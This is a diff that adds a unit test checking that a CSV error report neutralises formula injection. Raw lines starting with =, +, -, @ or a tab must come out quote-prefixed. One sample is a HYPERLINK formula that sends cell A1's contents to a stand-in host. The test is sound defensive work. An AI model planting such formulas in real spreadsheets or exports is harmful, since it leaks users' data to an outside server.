@@ -112,3 +112,20 @@ def test_raw_line_with_quotes_commas_and_cr_stays_one_record(tmp_path: Path) -> 
     report.add(5, "malformed quoting in field 2: x", raw)
     report.save()
     assert _report(tmp_path, [(0, 100)])[1:] == [["105", "malformed quoting in field 2: x", raw]]
+
+
+def test_raw_lines_a_spreadsheet_would_run_as_formulas_are_shown_as_text(tmp_path: Path) -> None:
+    report = ChunkReport(tmp_path, JOB, 0)
+    dangerous = [
+        '=HYPERLINK("http://x.example/?"&A1,"click"),1.5,2018-08-04 05:32:31',
+        "+1+2,1.5,2018-08-04 05:32:31",
+        "-2+3,1.5,2018-08-04 05:32:31",
+        "@SUM(A1:A9),1.5,2018-08-04 05:32:31",
+        "\t=1+1,1.5,2018-08-04 05:32:31",
+    ]
+    plain = "bad id!,12.5,=2018-08-04 05:32:31"  # a formula sign inside the line is harmless
+    for i, line in enumerate([*dangerous, plain]):
+        report.add(i + 1, "some reason", line)
+    report.save()
+    raws = [row[2] for row in _report(tmp_path, [(0, 0)])[1:]]
+    assert raws == [*("'" + line for line in dangerous), plain]
